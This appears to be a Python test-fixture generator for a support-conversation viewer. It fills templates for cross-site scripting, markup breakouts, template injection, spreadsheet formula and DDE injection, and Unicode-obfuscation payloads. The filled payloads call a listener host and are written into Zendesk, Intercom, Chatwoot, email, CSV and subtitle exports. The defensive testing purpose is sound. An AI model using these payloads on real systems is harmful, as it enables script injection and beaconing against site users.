"""Texts as a customer would send them who wants a rep's browser to run or load something; each says by a number that it did."""

import base64
import csv
import html
import io
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path
from typing import Any

# In a template: %URL% is an address of the listener, %REF% the same without its scheme, %JS% the script that leaves a mark,
# %PAGE% and %SVG% are a page and a picture of scripts, packed as data URLs.
HTML = r"""
<script>%JS%</script>
<script src=%URL%></script>
<script type=module>import('%URL%')</script>
<img src=x onerror=%JS%>
<img src=%URL%>
<img srcset="%URL% 2x">
<picture><source srcset=%URL%><img></picture>
<image src=%URL%>
<input type=image src=%URL%>
<input autofocus onfocus=%JS%>
<select autofocus onfocus=%JS%></select>
<video poster=%URL%></video>
<video src=%URL% autoplay></video>
<video><source onerror=%JS% src=x></video>
<audio src=%URL% onerror=%JS%></audio>
<details open ontoggle=%JS%><summary>x</summary></details>
<iframe srcdoc="<script>%JS%</script>"></iframe>
<iframe src=%URL%></iframe>
<iframe src="javascript:%JS%"></iframe>
<iframe src="%PAGE%"></iframe>
<object data=%URL%></object>
<object data="%SVG%" type="image/svg+xml"></object>
<embed src=%URL%>
<link rel=stylesheet href=%URL%>
<link rel=preload as=image href=%URL%>
<style>@import url(%URL%);</style>
<style>*{background:url(%URL%)}</style>
<div style="background:url(%URL%)">x</div>
<body background=%URL%>
<table background=%URL%><tr><td>x</table>
<body onload=%JS%>
<body onpageshow=%JS%>
<meta http-equiv=refresh content="0;url=%URL%">
<base href=%URL%/><img src=x>
<form action=%URL%><input type=submit></form>
<form><button formaction="javascript:%JS%">x</button></form>
<button onclick=%JS%>x</button>
<a href="javascript:%JS%">x</a>
<a href=%URL% ping=%URL%>x</a>
<a href="%PAGE%">x</a>
<x onclick=%JS% tabindex=1 autofocus onfocus=%JS%>x</x>
<x style="animation:a 1s" onanimationstart=%JS%>x</x><style>@keyframes a{}</style>
<marquee onstart=%JS%>x</marquee>
<dialog open onfocusin=%JS%><button autofocus>x</button></dialog>
<img src=x onerror="top.document.title='hacked %N%'">
<img src=x onerror=alert(%N%)>
<script>confirm(%N%)</script>
<script>fetch('%URL%')</script>
<script>navigator.sendBeacon('%URL%')</script>
<script>new WebSocket('ws:%REF%')</script>
<script>new Image().src='%URL%'</script>
"""
BREAKOUTS = r"""
"><img src=x onerror=%JS%>
'><svg onload=%JS%>
--><script>%JS%</script>
</textarea><script>%JS%</script>
</title></style></script><script>%JS%</script>
]]><script>%JS%</script>
<noscript><p title="</noscript><img src=x onerror=%JS%>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%JS%&gt;">
<template><script>%JS%</script></template><img src=%URL%>
<<script>%JS%//<</script>
<img/src=x/onerror=%JS%>
<ScRiPt >%JS%</sCrIpT >
<svg><style><img src=x onerror=%JS%></style>
&lt;img src=x onerror=%JS%&gt;
&amp;lt;script&amp;gt;%JS%&amp;lt;/script&amp;gt;
&#60;script&#62;%JS%&#60;/script&#62;
\u003cscript\u003e%JS%\u003c/script\u003e
%3Cscript%3E%JS%%3C/script%3E
+ADw-script+AD4-%JS%+ADw-/script+AD4-
"""
SVG = r"""
<svg onload=%JS%>
<svg><script>%JS%</script></svg>
<svg><image href=%URL%></svg>
<svg><use href="%URL%#a"></svg>
<svg><a href="javascript:%JS%"><text y=20>x</text></a></svg>
<svg><animate onbegin=%JS% attributeName=x dur=1s></svg>
<svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg>
<svg><set attributeName=href to="javascript:%JS%"></svg>
<svg xmlns="http://www.w3.org/2000/svg"><feImage href=%URL% /></svg>
"""
MARKDOWN = r"""
![x](%URL%)
![x](<%URL%> "x")
![x][r]\n\n[r]: %URL%
[![x](%URL%)](%URL%)
[x](javascript:%JS%)
[x](JaVaScRiPt:%JS%)
[x](java&Tab;script:%JS%)
[x](javascript&colon;%JS%)
[x](%PAGE%)
![x](%SVG%)
[x](%URL% "onmouseover=%JS%")
<%URL%>
<javascript:%JS%>
| a |\n|---|\n| ![x](%URL%) |
```\n![x](%URL%)
`` ` ``![x](%URL%)
> # ![x](%URL%)
- [ ] ![x](%URL%)
x[^1]\n\n[^1]: ![x](%URL%)
**![x](%URL%)**
![x](http:&sol;&sol;%HOST%)
![x](%REF%)
\![x](%URL%)
"""
LATEX = r"""
$\href{javascript:%JS%}{x}$
$\url{%URL%}$
$\includegraphics[width=1em]{%URL%}$
$\htmlData{x=%URL%}{x}$
$\htmlStyle{background:url(%URL%)}{x}$
$\html@mathml{<img src=%URL%>}{x}$
$\text{<img src=%URL%>}$
$$\def\a{\includegraphics{%URL%}}\a$$
$`x`$![x](%URL%)
$\rule{500em}{500em}$ %URL%
"""
STREAMLIT = r"""
:material/verified: %N%
:material/lock: :material/delete: %N%
:red[number %N%]
:red-background[![x](%URL%)]
:violet-badge[:material/verified: approved %N%]
:small[:gray[![x](%URL%)]]
:rainbow[![x](%URL%)]
:streamlit: %N%
:smile: :+1: %N%
:blue[[x](javascript:%JS%)]
:image[x]{src="%URL%"}
:color[x]{foreground="red" background="url(%URL%)"}
:shortcut[Ctrl+%N%]
::img{src=%URL%}
<- %N% -> <-> -- >= <= ~= (c) %N%
"""
ADDRESSES = r"""
%URL%
www.example.com/%N%
%REF%
javascript:%JS%
vbscript:msgbox(%N%)
%PAGE%
%SVG%
blob:%URL%
view-source:%URL%
url(%URL%)
@import "%URL%";
=HYPERLINK("%URL%","x")
=IMAGE("%URL%")
=WEBSERVICE("%URL%")
@SUM(1+%N%)*cmd|' /C calc'!A0
"""
TEMPLATES = r"""
{{constructor.constructor('%JS%')()}}
{{7*%N%}}
{% raw %}%JS%{% endraw %}
${%JS%}
#{%JS%}
<%= %JS% %>
{{{"__proto__":%N%}}}
{0.__class__.__init__.__globals__} %N%
%(name)s %N%
`${fetch('%URL%')}`
"""
SIGNS = (
    "\u202e<img src=x onerror=%JS%>\u202c",
    "\u2066![x](%URL%)\u2069",
    "<scr\u200bipt>%JS%</scr\u200bipt>",
    "<\u200dimg src=%URL%>",
    "[x](java\u200bscript:%JS%)",
    "！[x](%URL%)",
    "＜script＞%JS%＜/script＞",
    "<img\u2028src=%URL%>",
    "<img\u00a0src=%URL%>",
    "<img\x0csrc=x\x0conerror=%JS%>",
    "\ufeff<script>%JS%</script>",
    "‹CARD 1› <img src=%URL%>",
    "\U000e003c\U000e0073 <img src=%URL%>",
    "<im\u0131g src=%URL%> <ſcript>%JS%</ſcript>",
)
CHANGES = ("%s", "Hello, %s thanks", "\"'>%s", ":red[%s]", "\u202e%s\u202c")  # a payload comes alone, in words, and inside of others


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str


def _lines(templates: str) -> list[str]:
    """One a line."""
    return [line.replace("\\n", "\n") for line in templates.strip("\n").split("\n")]


FAMILIES = {
    "HTML": _lines(HTML), "breakout": _lines(BREAKOUTS), "SVG": _lines(SVG), "Markdown": _lines(MARKDOWN),
    "LaTeX": _lines(LATEX), "Streamlit": _lines(STREAMLIT), "address": _lines(ADDRESSES),
    "template": _lines(TEMPLATES), "signs": list(SIGNS),
}  # fmt: skip


def mark(number: int) -> str:
    return f"top.hacked.push({number})"


def filled(template: str, number: int, host: str) -> str:
    """The template with this number's marks in it. The host is a name: an IP address would be redacted, and do no harm any more."""
    url, script = f"http://{host}/{number}", f"<script>{mark(number)};fetch('http://{host}/{number}')</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
    values = {
        "%URL%": url, "%REF%": f"//{host}/{number}", "%HOST%": f"{host}&sol;{number}", "%JS%": mark(number), "%N%": str(number),
        "%PAGE%": _packed("text/html", script), "%SVG%": _packed("image/svg+xml", svg),
    }  # fmt: skip
    for name, value in values.items():
        template = template.replace(name, value)
    return template


def _packed(kind: str, content: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(content.encode()).decode()}"


def payloads(host: str, count: int) -> list[Payload]:
    """So many, no two the same, of every family its share."""
    chosen = _spread(count)
    return [Payload(number, family, filled(template, number, host)) for number, (family, template) in enumerate(chosen, start=1)]


def _spread(count: int) -> Iterator[tuple[str, str]]:
    """The templates as they are, evenly taken; once they are used up, the same inside of others."""
    whole = [(family, template) for family, templates in FAMILIES.items() for template in templates]
    if count <= len(whole):
        changes = cycle(CHANGES)
        for number in range(count):
            family, template = whole[number * len(whole) // count]
            yield family, next(changes).replace("%s", template)
        return
    changed = [(family, change.replace("%s", template)) for change in CHANGES for family, template in whole]
    yield from changed[:count]


# The same in the files of each reader: every payload as it is, and where the format is HTML also written as text.


def written(payloads: Sequence[Payload], folder: Path) -> dict[str, Path]:
    """One file or folder for each reader, with every payload as a message of its one conversation."""
    texts = [payload.text for payload in payloads]
    pages = [text for one in texts for text in (f"<p>{one}</p>", f"<p>{html.escape(one)}</p>")]
    made = {
        "jsonl": ("a.jsonl", json.dumps(spoken(payloads))),
        "csv": ("a.csv", _csv(texts)),
        "zendesk": ("zendesk.json", json.dumps(_zendesk(texts, pages))),
        "intercom": ("intercom.json", json.dumps(_intercom(texts, pages))),
        "chatwoot": ("chatwoot.json", json.dumps(_chatwoot(texts))),
        "mbox": ("a.mbox", "".join(f"From jo@a.example Mon Mar  2 10:00:00 2026\n{mail}\n" for mail in _mails(texts, pages, "mbox"))),
        "vtt": ("a.vtt", _vtt(texts)),
    }
    for name, content in made.values():
        (folder / name).write_text(content, encoding="utf-8", newline="")
    (folder / "mails").mkdir()
    for number, mail in enumerate(_mails(texts, pages, "eml")):
        (folder / "mails" / f"{number}.eml").write_text(mail, encoding="utf-8", newline="")
    return {kind: folder / name for kind, (name, _) in made.items()} | {"eml": folder / "mails"}


def spoken(payloads: Sequence[Payload]) -> dict[str, Any]:
    """A canonical conversation in which everybody who can speak says some of them, machines' steps and private notes too."""
    messages = [_said(payload.text, payload.number % 7) for payload in payloads]
    return {"id": f"spoken {payloads[0].number}", "channel": "chat", "messages": messages}


def _said(text: str, place: int) -> dict[str, Any]:
    name = text[:400]
    return (
        {"role": "customer", "text": text},
        {"role": "rep", "text": text, "author": name},
        {"role": "assistant", "text": text, "author": name},
        {"role": "system", "text": text},
        {"role": "rep", "text": text, "author": name, "private": True},
        {"role": "tool", "tool_call": {"name": name, "arguments": {text: text, "list": [text]}}},
        {"role": "tool", "text": text, "tool_result": {text: [text, {"deep": text}]}, text: text},
    )[place]


def everywhere(payload: Payload) -> dict[str, Any]:
    """A canonical conversation that has it in every field."""
    text, name = payload.text, payload.text[:400]
    return {
        "id": f"{payload.number} {text}"[:200], "source": "markup", "channel": ("chat", "email", "voice")[payload.number % 3],
        "subject": name, "status": name, "customer": name.replace("@", ""), "segment": name, "language": name, "assignee": name,
        "tags": [name, "x"], "labels": {text: text}, text: {text: [text]}, "csat": 3,
        "messages": [{"role": "customer", "text": text}, {"role": "rep", "text": f"Of {payload.number}", "author": name, text: text}],
        "signals": [{"kind": "tag_changed", "at": "2026-03-01T10:00:00Z", "value": name}],
    }  # fmt: skip


def _csv(texts: Sequence[str]) -> str:
    held = io.StringIO()
    rows = csv.writer(held)
    rows.writerow(["ticket id", "role", "message", "author", "subject", "status", "tags", texts[0]])
    rows.writerows(
        ["1", ("customer", "agent")[place % 2], text, text[:400], texts[1], texts[2], texts[3], text] for place, text in enumerate(texts)
    )
    return held.getvalue()


def _zendesk(texts: Sequence[str], pages: Sequence[str]) -> dict[str, Any]:
    comments = [
        {
            "id": place,
            "author_id": (101, 7, 8)[place % 3],
            "html_body": page,
            "public": place % 3 < 2,
            "created_at": f"2026-03-01T{place // 60:02}:{place % 60:02}:00Z",
        }
        for place, page in enumerate(pages)
    ]
    ticket = {
        "id": 4711, "subject": texts[0], "description": texts[0], "created_at": "2026-03-01T00:00:00Z", "status": "open",
        "requester_id": 101, "assignee_id": 7, "via": {"channel": "email"}, "tags": texts[:3], "priority": texts[1], "comments": comments,
        "satisfaction_rating": {"score": "bad", "comment": texts[2]}, "custom_fields": [{"id": 360, "value": texts[3]}],
    }  # fmt: skip
    users = [
        {"id": 101, "name": "Jo Doe", "role": "end-user"},
        {"id": 7, "name": texts[5], "role": "agent"},
        {"id": 8, "name": "Leo Lane", "role": "admin"},
    ]
    return {"tickets": [ticket], "users": users, "ticket_fields": [{"id": 360, "title": texts[6], "type": "text"}]}


def _intercom(texts: Sequence[str], pages: Sequence[str]) -> dict[str, Any]:
    customer, rep = {"type": "user", "id": "u1", "name": "Jo Doe"}, {"type": "admin", "id": "7", "name": texts[1]}
    parts = [
        {
            "type": "conversation_part", "id": str(place), "part_type": ("comment", "comment", "note")[place % 3], "body": page,
            "created_at": 1772355600 + 60 * place, "author": (customer, rep, rep)[place % 3],
        }
        for place, page in enumerate(pages)
    ]  # fmt: skip
    conversation = {
        "type": "conversation", "id": "1911", "created_at": 1772355600, "state": "open", "admin_assignee_id": 7,
        "source": {"type": "conversation", "id": "s1", "subject": f"<p>{texts[2]}</p>", "body": html.escape(texts[3]), "author": customer},
        "contacts": {"contacts": [{"type": "contact", "id": "u1"}]},
        "tags": {"tags": [{"id": "5", "name": texts[4], "applied_at": 1772356000}]},
        "custom_attributes": {texts[5]: texts[6]}, "conversation_parts": {"conversation_parts": parts},
    }  # fmt: skip
    return {"type": "conversation.list", "conversations": [conversation]}


def _chatwoot(texts: Sequence[str]) -> list[dict[str, Any]]:
    senders = ({"id": 1, "type": "contact", "name": "Jo Doe"}, {"id": 7, "type": "user", "name": texts[1]})
    messages = [
        {
            "id": place, "content": text, "message_type": place % 3, "created_at": 1772355660 + place, "private": place % 4 == 3,
            "content_type": "text", "content_attributes": {}, "conversation_id": 12, "inbox_id": 4, "sender": senders[place % 2],
        }
        for place, text in enumerate(texts)
    ]  # fmt: skip
    meta = {"sender": senders[0], "channel": "Channel::Email", "assignee": {"id": 7, "name": texts[2]}}
    return [
        {
            "id": 12, "inbox_id": 4, "status": "open", "created_at": 1772355600, "labels": texts[:2],
            "custom_attributes": {texts[3]: texts[4]}, "additional_attributes": {"mail_subject": texts[5]}, "meta": meta,
            "messages": messages,
        }
    ]  # fmt: skip


def _mails(texts: Sequence[str], pages: Sequence[str], kind: str) -> list[str]:
    """A thread: some mails are text, the others pages alone."""
    bodies = [("plain", text) for text in texts] + [("html", page) for page in pages]
    return [
        f"From: {'Jo <jo@a.example>' if place % 2 else 'Support <support@shop.example>'}\n"
        f"To: {'support@shop.example' if place % 2 else 'jo@a.example'}\n"
        f"Subject: =?utf-8?b?{base64.b64encode(texts[0].encode()).decode()}?=\nMessage-ID: <{place}.{kind}@a.example>\n"
        f"{f'References: <0.{kind}@a.example>' if place else 'X-First: yes'}\n"
        f"Date: Mon, 2 Mar 2026 {10 + place // 60}:{place % 60:02}:00 +0000\n"
        f"Content-Type: text/{subtype}; charset=utf-8\n\n{body}\n"
        for place, (subtype, body) in enumerate(bodies)
    ]


def _vtt(texts: Sequence[str]) -> str:
    cues = [
        f"00:{place // 60:02}:{place % 60:02}.000 --> 00:{place // 60:02}:{place % 60:02}.900\n"
        f"{('Agent', 'Customer')[place % 2]}: {' '.join(html.escape(text).split())}\n"
        for place, text in enumerate(texts)
    ]
    return "\n".join(["WEBVTT\n", f"NOTE id: call 1\nsubject: {' '.join(texts[0].split())}\n", *cues])
